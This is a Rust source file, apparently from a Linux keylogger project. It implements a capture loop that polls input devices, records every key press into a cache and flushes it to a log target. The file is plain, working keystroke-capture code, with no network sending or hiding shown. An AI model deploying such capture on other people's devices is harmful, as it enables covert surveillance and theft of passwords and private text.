use crate::cache::{LogCache, LogTarget};
use crate::error::KeylogError;
use crate::keyboard::{CaptureHandle, KeyEvent};
use crate::run_state::{self, RunState};
use crate::KeylogResult;
use std::convert::TryFrom;
use std::io;
use std::os::fd::AsRawFd;
use std::ptr;
use tracing::{debug, info, trace, warn};

/// Where a [`CaptureLoop`] is in its lifecycle.
///
/// A loop only exists once its devices are open, so construction covers initialization.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaptureState {
    /// Waiting for and logging key presses.
    Running,
    /// Shutdown was requested; the cache is being flushed.
    Draining,
    /// All devices are closed.
    Terminated,
}

/// Multiplexes key events from a set of capture handles into a [`LogCache`].
///
/// Everything happens on the calling thread: a blocking wait across all live handles, then one
/// record read from each handle that became readable.
#[derive(Debug)]
pub struct CaptureLoop<'a> {
    handles: Vec<CaptureHandle>,
    cache: LogCache,
    target: LogTarget,
    run_state: &'a RunState,
    state: CaptureState,
}

impl<'a> CaptureLoop<'a> {
    /// Create a new `CaptureLoop`.
    ///
    /// This function returns an error if `handles` is empty.
    pub fn new(
        handles: Vec<CaptureHandle>,
        cache: LogCache,
        target: LogTarget,
        run_state: &'a RunState,
    ) -> KeylogResult<Self> {
        if handles.is_empty() {
            return Err(KeylogError::NoDevicesFound);
        }

        debug!(devices = handles.len(), "capture loop running");

        Ok(Self {
            handles,
            cache,
            target,
            run_state,
            state: CaptureState::Running,
        })
    }

    /// Capture until shutdown is requested, then flush the cache and close all devices.
    ///
    /// A cache overflow ends the capture without flushing. A failed wait ends it after flushing.
    pub fn run(&mut self) -> KeylogResult<()> {
        let outcome = loop {
            if !self.run_state.is_running() {
                break Ok(());
            }

            match self.step() {
                Ok(()) => {}
                Err(e @ KeylogError::CacheOverflow { .. }) => {
                    self.close_all();
                    return Err(e);
                }
                Err(e) => break Err(e),
            }
        };

        let flushed = self.drain();

        match (outcome, flushed) {
            (Err(e), Err(flush_err)) => {
                warn!(error = %flush_err, "final flush failed");
                Err(e)
            }
            (outcome, flushed) => outcome.and(flushed),
        }
    }

    /// Run a single wait cycle: block until at least one device is readable (or a signal
    /// arrives) and read one event from every readable device.
    ///
    /// Devices that fail to read are closed and dropped from the live set.
    pub fn step(&mut self) -> KeylogResult<()> {
        if self.state != CaptureState::Running {
            return Ok(());
        }

        let ready = match self.wait_ready() {
            Ok(ready) => ready,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {
                trace!("wait interrupted by a signal");
                return Ok(());
            }
            Err(e) => return Err(KeylogError::Poll(e)),
        };

        let mut disconnected = Vec::new();

        for idx in ready {
            let handle = &self.handles[idx];

            match handle.read_event() {
                Ok(Some(ev)) => {
                    // Everything but key presses is dropped here
                    if let Ok(event) = KeyEvent::try_from(&ev) {
                        if event.is_press() {
                            self.cache.append(event.key_name())?;
                        }
                    }
                }
                Ok(None) => {
                    info!(device = %handle.path().display(), "input device disconnected");
                    disconnected.push(idx);
                }
                Err(e)
                    if matches!(
                        e.kind(),
                        io::ErrorKind::Interrupted | io::ErrorKind::WouldBlock
                    ) => {}
                Err(e) => {
                    warn!(
                        device = %handle.path().display(),
                        error = %e,
                        "failed to read from input device, closing it"
                    );
                    disconnected.push(idx);
                }
            }
        }

        // Highest index first, so the remaining indices stay valid
        for idx in disconnected.into_iter().rev() {
            self.handles.remove(idx);
        }

        Ok(())
    }

    pub fn state(&self) -> CaptureState {
        self.state
    }

    pub fn cache(&self) -> &LogCache {
        &self.cache
    }

    /// The devices that are still open, in discovery order.
    pub fn devices(&self) -> &[CaptureHandle] {
        &self.handles
    }

    fn wait_ready(&self) -> io::Result<Vec<usize>> {
        const READY: libc::c_short = libc::POLLIN | libc::POLLHUP | libc::POLLERR | libc::POLLNVAL;

        let mut fds = self
            .handles
            .iter()
            .map(|handle| libc::pollfd {
                fd: handle.as_raw_fd(),
                events: libc::POLLIN,
                revents: 0,
            })
            .collect::<Vec<_>>();

        let sigmask = run_state::wait_sigmask()?;

        // No timeout: block until a device is readable or a signal arrives
        let res = unsafe {
            libc::ppoll(
                fds.as_mut_ptr(),
                fds.len() as libc::nfds_t,
                ptr::null(),
                &sigmask,
            )
        };

        if res < 0 {
            return Err(io::Error::last_os_error());
        }

        Ok(fds
            .iter()
            .enumerate()
            .filter(|(_, fd)| fd.revents & READY != 0)
            .map(|(idx, _)| idx)
            .collect())
    }

    fn drain(&mut self) -> KeylogResult<()> {
        self.state = CaptureState::Draining;
        debug!(entries = self.cache.entries(), "draining capture loop");

        let flushed = self.cache.flush(&self.target);
        self.close_all();

        flushed
    }

    fn close_all(&mut self) {
        debug!(devices = self.handles.len(), "closing input devices");

        self.handles.clear();
        self.state = CaptureState::Terminated;
    }
}
